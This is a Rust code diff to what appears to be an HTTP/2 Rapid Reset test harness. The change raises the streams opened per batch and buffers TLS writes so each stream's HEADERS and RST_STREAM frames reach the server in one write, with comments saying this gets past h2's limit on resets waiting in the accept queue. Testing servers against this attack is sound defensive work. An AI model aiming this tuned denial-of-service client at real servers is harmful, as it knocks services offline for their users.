@@ -18,7 +18,7 @@ use std::time::Duration;
 
 use bytes::Bytes;
 pub use h2::Reason;
-use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};
+use tokio::io::{AsyncRead, AsyncWrite, BufWriter, ReadBuf};
 use tokio::net::TcpStream;
 use tokio::time::Instant;
 use tokio_rustls::TlsConnector;
@@ -28,9 +28,16 @@ use tokio_rustls::rustls::pki_types::ServerName;
 /// The ALPN id of HTTP/2.
 pub const ALPN_H2: &[u8] = b"h2";
 
-/// Streams opened between two yields to the connection's driver, so frames go out in
-/// batches (as a real attacker's do) without starving the task that writes them.
-pub const STREAMS_PER_YIELD: usize = 16;
+/// Streams opened between two yields to the connection's driver, three times h2's default
+/// limit of 20 resets waiting in the server's accept queue at once.
+pub const STREAMS_PER_YIELD: usize = 64;
+
+/// Bytes of TLS records gathered before they are written to the socket, so a batch (its
+/// HEADERS and RST_STREAM frames, each stream's reset right after its HEADERS) reaches the
+/// server in one write, as a real attacker packs it: written record by record, a server that
+/// reads faster than the client writes accepts each stream before its reset arrives, and h2's
+/// limit (resets of streams not yet accepted) is not what such a client meets.
+pub const WRITE_BUFFER: usize = 64 * 1024;
 
 /// A connector like `connector` (same roots and provider) that offers only ALPN `h2`.
 pub fn alpn_h2(connector: &TlsConnector) -> TlsConnector {
@@ -58,7 +65,7 @@ pub struct RapidReset {
 /// An attacker connection the server still serves: the `h2` connection, no longer polled
 /// (no more frames read or answered: the peer vanished), and its request handle.
 pub struct StillServed {
-    _connection: h2::client::Connection<TlsStream<ReadAfterClose>, Bytes>,
+    _connection: h2::client::Connection<TlsStream<BufWriter<ReadAfterClose>>, Bytes>,
     _send_request: h2::client::SendRequest<Bytes>,
 }
 
@@ -97,7 +104,7 @@ pub async fn rapid_reset(
 ) -> io::Result<RapidResetReport> {
     let stream = TcpStream::connect(addr).await?;
     stream.set_nodelay(true)?;
-    let stream = ReadAfterClose(stream);
+    let stream = BufWriter::with_capacity(WRITE_BUFFER, ReadAfterClose(stream));
     let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
     let tls = tokio::time::timeout_at(plan.deadline, connector.connect(name, stream))
         .await
